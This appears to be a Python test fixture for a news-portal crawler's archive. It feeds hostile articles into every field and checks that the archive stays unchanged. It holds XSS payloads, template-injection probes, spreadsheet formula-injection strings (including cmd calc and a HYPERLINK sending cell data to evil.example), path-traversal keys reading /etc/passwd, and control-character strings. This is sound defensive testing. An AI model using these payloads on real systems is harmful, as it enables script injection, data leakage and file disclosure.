"""An archive of what a hostile portal publishes, and what tells that nobody wrote into it."""

from __future__ import annotations

import hashlib
import sqlite3
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import psycopg
from psycopg import sql
from sqlalchemy.engine import make_url

from db.archive import open_archive
from db.snapshots import write_snapshot
from portalcrawl.engines.nukeviet import NukeViet
from portalcrawl.items import Article, Attachment, Image
from portalcrawl.portals import Portal
from tests.web.serving import PORTAL, article

TAKEN = datetime(2026, 11, 22, 5, 30, 15, tzinfo=UTC)
SNAPSHOT = "20261122T053015Z"
_MARKED = "window.ran=1"
SCRIPTS: tuple[str, ...] = (
    f"<script>{_MARKED}</script>",
    f"</title></textarea></style></script><script>{_MARKED};alert(1)</script>",
    f'<img src=x onerror="{_MARKED}">',
    f'"><svg onload="{_MARKED}">',
    f"' onmouseover='{_MARKED}' autofocus onfocus='{_MARKED}' x='",
    f'" autofocus onfocus="{_MARKED}" x="',
    "<iframe src=\"javascript:parent.ran=1\"></iframe><base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "{{7*7}}{% raw %}{{ self.__init__.__globals__ }}${7*7}#{7*7}<%= 7*7 %>",
    "</style><style>*{background:url(//evil.example/x)}</style>@import '//evil.example'",
    "<!--><![CDATA[<script>window.ran=1</script>]]>--!>",
    "&lt;script&gt;window.ran=1&lt;/script&gt; &#60;script&#62;",
)
"""Each sets a property of the window where it runs, or asks another server for something."""
CONTROLS: tuple[str, ...] = (
    "\u202egnp.exe\u202d\u2066 đảo ngược",
    "\x1b[2J\x1b]0;tên\x07\x9b31m",
    "\x00\x01\x02\x08\x0b\x0c\x0e\x1f\x7f\x85\u2028\u2029\ufeff\ufffe\uffff",
    "\ud800lone\udfff surrogates",
    "Z̵̡͖͇͍͎" * 50,
)
FORMULAS: tuple[str, ...] = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm")',
    '"=1+1"\r\n=2+2;=3+3',
)
#: Those that a spreadsheet takes at the beginning of a cell for that of a formula.
FORMULA_SIGNS = ("=", "+", "-", "@", "\t", "\r")
URLS: tuple[str, ...] = (
    "javascript:window.ran=1",
    "JaVaScRiPt:window.ran=1//https://a.vn/",
    "\x01javascript:window.ran=1",
    "java\nscript:window.ran=1",
    "data:text/html,<script>window.ran=1</script>",
    "vbscript:msgbox(1)",
    "blob:https://a.vn/1",
    "//evil.example/x",
    "/search?q=1",
    'https://a.vn/"onmouseover="window.ran=1',
    "https://a.vn/<script>window.ran=1</script>",
    "https://[::1",
    "https://a.vn:99999999/",
    "file:///etc/passwd",
)
KEYS: tuple[str, ...] = (
    "../../../etc/passwd",
    "%2e%2e/%2e%2e/portalcrawl.sqlite",
    "..",
    ".",
    "\\..\\..\\portalcrawl.sqlite",
    "a?revision=99#b",
    "a;b=c&d=e+f",
    "//evil.example/x",
    "https://evil.example/x",
    "line\nbreak\rand\ttab",
    "%00",
    "%ff%c0%ae",
    "%",
    "\"><svg onload='window.ran=1'>",
    "{{7*7}}",
    "\u202ekey",
    "k" * 3000,
)
TEXT = "Một đoạn dài về chuyển đổi số. " * 3
HUGE = "dài " * 25_000
"""100 KB."""


def hostile_articles() -> Iterator[Article]:
    """All of them: whatever can stand in a field, in every field that a portal fills."""
    for at, text in enumerate((*SCRIPTS, *CONTROLS, *FORMULAS)):
        yield article(f"text-{at}", hours=at, **_everywhere(text))
    for at, url in enumerate(URLS):
        yield article(
            f"url-{at}",
            hours=at,
            url=url,
            canonical_url=url,
            images=(Image(url=url, caption="Ảnh"), Image(url=url)),
            attachments=(Attachment(url=url, name="Kế hoạch.pdf"),),
        )
    for at, key in enumerate(KEYS):
        yield article(key, hours=at, title=f"Khóa {at}")
    captions = tuple(f"Chú thích {at} {SCRIPTS[at % len(SCRIPTS)]}" for at in range(5_000))
    yield article("captions", captions=captions)
    for at in range(30):
        yield article(f"huge-{at}", hours=100 + at, title=f"{HUGE}{at}", section=HUGE, author=HUGE)


def _everywhere(text: str) -> dict[str, Any]:
    return {
        "title": text,
        "lead": text,
        "text": f"{text}\n\n{TEXT}\n\n{text}",
        "author": text,
        "source": text,
        "section": text,
        "captions": (text, "Quang cảnh"),
        "images": (Image(url="https://a.vn/a.jpg", caption=text),),
        "attachments": (Attachment(url="https://a.vn/a.pdf", name=text),),
    }


def publish(url: str, folder: Path) -> None:
    """Have the portal publish it, edited once, into an archive with a snapshot."""
    archive = open_archive(url)
    try:
        archive.register_portals("nghe_an", [Portal(PORTAL, NukeViet())])
        archive.record(hostile_articles())
        archive.record(
            article(f"text-{at}", hours=100 + at, **_everywhere(f"{text} (sửa)"))
            for at, text in enumerate((*SCRIPTS, *CONTROLS, *FORMULAS))
        )
        write_snapshot(archive.engine, folder / "snapshots", TAKEN)
    finally:
        archive.close()


@dataclass(frozen=True)
class Kept:
    """What an archive is: each file, and in the database each row of each table, as a digest."""

    files: Mapping[str, str]
    tables: Mapping[str, str]


@contextmanager
def untouched(url: str, folder: Path) -> Iterator[None]:
    """Fails where anything in the archive is another one after the block."""
    before = kept(url, folder)
    database = make_url(url).database
    watching = sqlite3.connect(str(database)) if url.startswith("sqlite") else None
    version = _version(watching)
    yield
    assert _version(watching) == version
    if watching is not None:
        assert watching.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        watching.close()
    assert kept(url, folder) == before


def kept(url: str, folder: Path) -> Kept:
    """The archive as it is now."""
    return Kept(dict(_files(folder)), dict(_tables(url)) if "postgres" in url else {})


def _version(connection: sqlite3.Connection | None) -> int:
    """SQLite's count of the commits of others."""
    return connection.execute("PRAGMA data_version").fetchone()[0] if connection else 0


def _files(folder: Path) -> Iterator[tuple[str, str]]:
    for path in sorted(folder.rglob("*")):
        # Readers and writers meet in these: whoever opens the database makes them.
        if path.is_file() and not path.name.endswith(("-shm", "-wal")):
            digest = hashlib.sha256(path.read_bytes()).hexdigest()
            yield f"{path.relative_to(folder)} {path.stat().st_mtime_ns}", digest


def _tables(url: str) -> Iterator[tuple[str, str]]:
    """A row has another place, or another transaction, as soon as it is written, even unchanged."""
    plain = make_url(url).set(drivername="postgresql").render_as_string(hide_password=False)
    with psycopg.connect(plain) as connection:
        named = connection.execute(
            "SELECT relname, relkind = 'S' FROM pg_class WHERE relkind IN ('r', 'S')"
            " AND relnamespace = 'public'::regnamespace ORDER BY relname"
        ).fetchall()
        for name, is_sequence in named:
            question = _SEQUENCE if is_sequence else _TABLE
            row = connection.execute(sql.SQL(question).format(sql.Identifier(name))).fetchone()
            yield name, str(row)


_SEQUENCE = "SELECT last_value, is_called FROM {}"
_TABLE = (
    "SELECT count(*), md5(coalesce(string_agg("
    "md5(t.ctid::text || t.xmin || t::text), '' ORDER BY t.ctid), '')) FROM {} t"
)
